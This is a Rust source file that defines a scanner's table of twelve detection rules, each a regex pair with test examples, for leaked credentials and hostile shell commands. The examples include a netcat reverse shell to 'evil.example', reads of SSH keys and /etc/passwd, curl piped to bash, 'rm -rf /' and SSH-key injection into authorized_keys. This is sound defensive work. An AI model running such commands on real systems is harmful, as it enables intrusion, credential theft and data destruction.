//! The table of rules: what is looked for, with the examples that are the rules' tests.
//!
//! A rule has two expressions in the common ground of Hyperscan and the `regex` crate, without
//! Unicode classes. `filter` goes into the database; it tells each possible end of a match, so its
//! last part has a fixed count (`{20}`, not `{20,}`). `exact` finds the whole span, greedily, in
//! the `max_width` bytes before that end. `[\t-\r ]` is `\s` spelt out, equal in both engines.

use crate::finding::ThreatType;

/// One thing to look for.
#[derive(Debug)]
pub struct Rule {
    /// The name in `threats.jsonl`.
    pub name: &'static str,
    /// What a match threatens.
    pub threat_type: ThreatType,
    /// The engine's expression: matches wherever `exact` does, and reports few ends.
    pub filter: &'static str,
    /// The `regex` crate's expression: the whole match.
    pub exact: &'static str,
    /// Whether `A` and `a` differ.
    pub case_sensitive: bool,
    /// Bytes before a filter hit's end in which the exact span is looked for. A match that is
    /// longer (a URL beyond some 2 KiB, pages of blanks) is found as well, but shown by its end.
    pub max_width: usize,
    /// Whether the match itself is a secret, to be shown by its head only.
    pub secret: bool,
    /// One line for people.
    pub description: &'static str,
    /// Texts with exactly one match each.
    pub examples: &'static [&'static str],
    /// Texts without a match.
    pub counter_examples: &'static [&'static str],
}

/// The room for blanks, beside the words of a command, before its match counts as over-long.
const BLANKS: usize = 64;

/// Every rule. Its index here is its number in the database.
pub static RULES: [Rule; 12] = [
    Rule {
        name: "ai_api_key",
        threat_type: ThreatType::Exfil,
        filter: r"sk-(live|pro|ant|gpt|test)[A-Za-z0-9_-]{20}",
        exact: r"sk-(?:live|pro|ant|gpt|test)[A-Za-z0-9_-]{20,}",
        case_sensitive: false,
        max_width: 27,
        secret: true,
        description: "API key of an AI or payment service",
        examples: &[
            concat!("Authorization: Bearer sk-ant-", "api03-EXAMPLEexample0123456789"),
            concat!("{\"key\":\"sk-pro", "j-EXAMPLEEXAMPLEEXAMPLE\"}"),
            concat!("OPENAI_KEY=sk-gpt", "EXAMPLE0EXAMPLE0EXAM"),
            concat!("SK-LIVE-", "EXAMPLE_EXAMPLE_EXAMPLE"),
            concat!("xsk-test-", "00000000000000000000000000000000000000000000"),
        ],
        counter_examples: &[
            concat!("sk-ant", "EXAMPLE0EXAMPLE0EXA"),
            concat!("sk-ant-", "EXAMPLE EXAMPLE EXAMPLE EXAMPLE"),
            "sk-proper names are not keys",
            concat!("sk_live_", "EXAMPLEEXAMPLEEXAMPLE"),
            "task-antialiasing.is.a.word.and.not.a.key",
        ],
    },
    Rule {
        name: "aws_access_key",
        threat_type: ThreatType::Exfil,
        filter: r"(AKIA|ASIA)[0-9A-Z]{16}",
        exact: r"(?:AKIA|ASIA)[0-9A-Z]{16}",
        case_sensitive: true,
        max_width: 20,
        secret: true,
        description: "AWS access key id",
        examples: &[
            concat!("aws_access_key_id = AKIA", "IOSFODNN7EXAMPLE"),
            concat!("X-Amz-Credential=ASIA", "IOSFODNN7EXAMPLE%2F20260101"),
            concat!("\"AKIA", "0000000000000000\""),
            concat!("AKIA", "IOSFODNN7EXAMPLEXYZ"),
        ],
        counter_examples: &[
            concat!("AKIA", "IOSFODNN7EXAMPL"),
            concat!("akia", "iosfodnn7example"),
            concat!("AKIA", "IOSFODNN7-EXAMPLE"),
            concat!("AKIAiosfodnn7example", "0000"),
        ],
    },
    Rule {
        name: "private_key_pem",
        threat_type: ThreatType::Exfil,
        filter: r"-----BEGIN (RSA|OPENSSH|EC|DSA) PRIVATE KEY-----",
        exact: r"-----BEGIN (?:RSA|OPENSSH|EC|DSA) PRIVATE KEY-----",
        case_sensitive: false,
        max_width: 35,
        secret: false,
        description: "Private key in PEM armour",
        examples: &[
            concat!("-----BEGIN RSA ", "PRIVATE KEY-----\nMIIEXAMPLE\n"),
            concat!("-----BEGIN OPENSSH ", "PRIVATE KEY-----\nb3BlbnNzaC1rZXk\n"),
            concat!("{\"pem\":\"-----BEGIN EC ", "PRIVATE KEY-----\\nMHcEXAMPLE\\n\"}"),
            concat!("-----BEGIN DSA ", "PRIVATE KEY-----"),
            concat!("-----begin rsa ", "private key-----"),
        ],
        counter_examples: &[
            "-----BEGIN CERTIFICATE-----",
            "-----BEGIN RSA PUBLIC KEY-----",
            "----BEGIN RSA PRIVATE KEY----",
            "-----END RSA PRIVATE KEY-----",
            "-----BEGIN  RSA  PRIVATE  KEY-----",
        ],
    },
    Rule {
        name: "ssh_key_file",
        threat_type: ThreatType::Exfil,
        filter: r"\.ssh/(id_rsa|id_ed25519|config|authorized_keys)",
        exact: r"\.ssh/(?:id_rsa|id_ed25519|config|authorized_keys)",
        case_sensitive: false,
        max_width: 20,
        secret: false,
        description: "Path of an SSH key, its config or its authorisations",
        examples: &[
            "cat ~/.ssh/id_rsa",
            "/root/.ssh/id_ed25519.pub",
            "C:/Users/me/.ssh/config",
            "{\"path\":\"/home/me/.ssh/authorized_keys\"}",
            "~/.SSH/ID_RSA",
        ],
        counter_examples: &[
            "~/.ssh/known_hosts",
            "ssh/id_rsa",
            "~/.ssh/id_ecdsa",
            "~/.ssh/ id_rsa",
            "~/xssh/id_rsa",
        ],
    },
    Rule {
        name: "unix_sensitive",
        threat_type: ThreatType::Exfil,
        filter: r"/etc/(passwd|shadow|sudoers)\b",
        exact: r"/etc/(?:passwd|shadow|sudoers)\b",
        case_sensitive: false,
        max_width: 12,
        secret: false,
        description: "Path of the system's accounts, passwords or sudo rules",
        examples: &[
            "cat /etc/passwd",
            "{\"file\":\"/etc/shadow\"}",
            "vi /etc/sudoers.d/agent",
            "/chroot/etc/passwd-",
            "/ETC/PASSWD:",
        ],
        counter_examples: &[
            "/etc/passwd_backup",
            "/etc/shadows",
            "/etc/sudoers2",
            "/etc/ passwd",
            "etc/passwd",
        ],
    },
    Rule {
        name: "dotenv_file",
        threat_type: ThreatType::Exfil,
        filter: r"/(\.env|\.aws/credentials)\b",
        exact: r"/(?:\.env|\.aws/credentials)\b",
        case_sensitive: false,
        max_width: 17,
        secret: false,
        description: "Path of a file with credentials of a project or of AWS",
        examples: &[
            "cat /srv/app/.env",
            "GET /.env HTTP/1.1",
            "/srv/app/.env.production",
            "~/.aws/credentials",
            "{\"path\":\"/root/.AWS/Credentials\"}",
        ],
        counter_examples: &["/.environment", "/.env_file", "/.env2", "app.env", "~/.aws/config"],
    },
    Rule {
        name: "ssh_pubkey",
        threat_type: ThreatType::Exfil,
        filter: r"ssh-rsa[\t-\r ]+[A-Za-z0-9+/=]{40}",
        exact: r"ssh-rsa[\t-\r ]+[A-Za-z0-9+/=]{40,}",
        case_sensitive: false,
        max_width: 47 + BLANKS,
        secret: true,
        description: "SSH public key",
        examples: &[
            concat!("ssh-rsa ", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLEEXAMPLE me@host"),
            concat!("\"ssh-rsa  ", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLE+/=\""),
            concat!("ssh-rsa\n", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLE00"),
            concat!("SSH-RSA ", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLE00"),
        ],
        counter_examples: &[
            concat!("ssh-rsa ", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLE0"),
            concat!("ssh-rsa", "AAAAB3NzaC1yc2EAAAADAQABAAABAQCEXAMPLE000"),
            concat!("ssh-ed25519 ", "AAAAC3NzaC1lZDI1NTE5AAAAIEXAMPLEEXAMPLEEXAMPLE"),
            "ssh-rsa keys of forty letters and more are matched",
        ],
    },
    Rule {
        name: "pipe_to_shell",
        threat_type: ThreatType::Injection,
        filter: r"(curl|wget)[\t-\r ]+[^\t-\r ]+[\t-\r ]*\|[\t-\r ]*(sh|bash)\b",
        exact: r"(?:curl|wget)[\t-\r ]+[^\t-\r ]+[\t-\r ]*\|[\t-\r ]*(?:sh|bash)\b",
        case_sensitive: false,
        max_width: 2048 + 3 * BLANKS,
        secret: false,
        description: "Download piped into a shell",
        examples: &[
            "curl https://example.com/install.sh | bash",
            "wget http://example.com/x|sh",
            "CURL example.com |\n bash -s --",
            "$(curl\thttps://example.com/?a=1&b=2\t|\tsh)",
            "curl x |sh|bash",
        ],
        counter_examples: &[
            "curl https://example.com/install.sh > install.sh",
            "curl -fsSL https://example.com/install.sh | bash",
            "curl https://example.com | shasum",
            "curl | sh",
            "wget https://example.com | tee | sh_",
        ],
    },
    Rule {
        name: "shell_exec",
        threat_type: ThreatType::Injection,
        filter: r#"\b(bash|sh)[\t-\r ]+-[ci][\t-\r ]+["']"#,
        exact: r#"\b(?:bash|sh)[\t-\r ]+-[ci][\t-\r ]+["']"#,
        case_sensitive: false,
        max_width: 7 + 2 * BLANKS,
        secret: false,
        description: "Shell started on a quoted command",
        examples: &[
            "bash -c 'id'",
            "/bin/sh -c \"curl example.com\"",
            "sh  -i  '",
            "BASH -C \"ls\"",
            "exec bash\t-i\n\"x\"",
        ],
        counter_examples: &[
            "bash -c id",
            "zsh -c 'id'",
            "bash -x 'id'",
            "bash -c'id'",
            "bash script.sh -c id",
        ],
    },
    Rule {
        name: "reverse_shell",
        threat_type: ThreatType::Injection,
        filter: r"\b(nc|netcat|ncat)[\t-\r ]+[^\t-\r ]+[\t-\r ]+[0-9]{2,5}\b",
        exact: r"\b(?:nc|netcat|ncat)[\t-\r ]+[^\t-\r ]+[\t-\r ]+[0-9]{2,5}\b",
        case_sensitive: false,
        max_width: 11 + 256 + 2 * BLANKS,
        secret: false,
        description: "Netcat to a host and port",
        examples: &[
            "nc 10.0.0.1 4444",
            "rm /tmp/f; ncat evil.example 443 -e /bin/sh",
            "netcat\texample.com\t80",
            "NC host 65535;",
            "nc -e 1234",
        ],
        counter_examples: &[
            "nc 10.0.0.1 4",
            "nc 10.0.0.1 123456",
            "rsync 10.0.0.1 4444",
            "nc 10.0.0.1:4444",
            "nc host 80a",
        ],
    },
    Rule {
        name: "destructive_rm",
        threat_type: ThreatType::Injection,
        filter: r"\brm[\t-\r ]+-rf[\t-\r ]+/",
        exact: r"\brm[\t-\r ]+-rf[\t-\r ]+/",
        case_sensitive: false,
        max_width: 6 + 2 * BLANKS,
        secret: false,
        description: "Recursive deletion from the root",
        examples: &["rm -rf /", "sudo rm  -rf  /home", "RM -RF /*", "x;rm -rf\n/etc"],
        counter_examples: &[
            "rm -rf ./build",
            "rm -rf build/",
            "rm -r /tmp/x",
            "farm -rf /",
            "rm -fr /",
        ],
    },
    Rule {
        name: "ssh_key_inject",
        threat_type: ThreatType::Injection,
        filter: r"echo[\t-\r ]+ssh-rsa\b",
        exact: r"echo[\t-\r ]+ssh-rsa\b",
        case_sensitive: false,
        max_width: 11 + BLANKS,
        secret: false,
        description: "SSH public key written by echo",
        examples: &[
            "echo ssh-rsa AAAA >> authorized_keys",
            "echo\tssh-rsa",
            "ECHO   SSH-RSA key",
            "(echo\nssh-rsa)",
        ],
        counter_examples: &[
            "echo 'ssh-rsa AAAA'",
            "echossh-rsa",
            "echo ssh-rsa2",
            "echo ssh-ed25519 AAAA",
        ],
    },
];

#[cfg(test)]
mod tests {
    use regex::bytes::{Regex, RegexBuilder};

    use super::*;
    use crate::limits::SCAN_MATCH_BEFORE_BYTES;

    fn exact(rule: &Rule) -> Regex {
        RegexBuilder::new(rule.exact)
            .unicode(false)
            .case_insensitive(!rule.case_sensitive)
            .build()
            .unwrap()
    }

    #[test]
    fn every_exact_expression_matches_its_examples_once_and_no_counter_example() {
        for rule in &RULES {
            let exact = exact(rule);
            for text in rule.examples {
                assert_eq!(exact.find_iter(text.as_bytes()).count(), 1, "{}: {text}", rule.name);
            }
            for text in rule.counter_examples {
                assert!(!exact.is_match(text.as_bytes()), "{}: {text}", rule.name);
            }
            assert!(rule.examples.len() >= 3 && rule.counter_examples.len() >= 3, "{}", rule.name);
        }
    }

    #[test]
    fn every_match_fits_the_carried_past() {
        for rule in &RULES {
            assert!(rule.max_width <= SCAN_MATCH_BEFORE_BYTES, "{}", rule.name);
        }
    }

    #[test]
    fn names_are_those_of_the_seed() {
        let names: Vec<&str> = RULES.iter().map(|rule| rule.name).collect();
        let seed = "ai_api_key aws_access_key private_key_pem ssh_key_file unix_sensitive \
                    dotenv_file ssh_pubkey pipe_to_shell shell_exec reverse_shell \
                    destructive_rm ssh_key_inject";
        assert_eq!(names.join(" "), seed);
        let exfil = RULES.iter().filter(|rule| rule.threat_type == ThreatType::Exfil).count();
        assert_eq!(exfil, 7);
    }
}
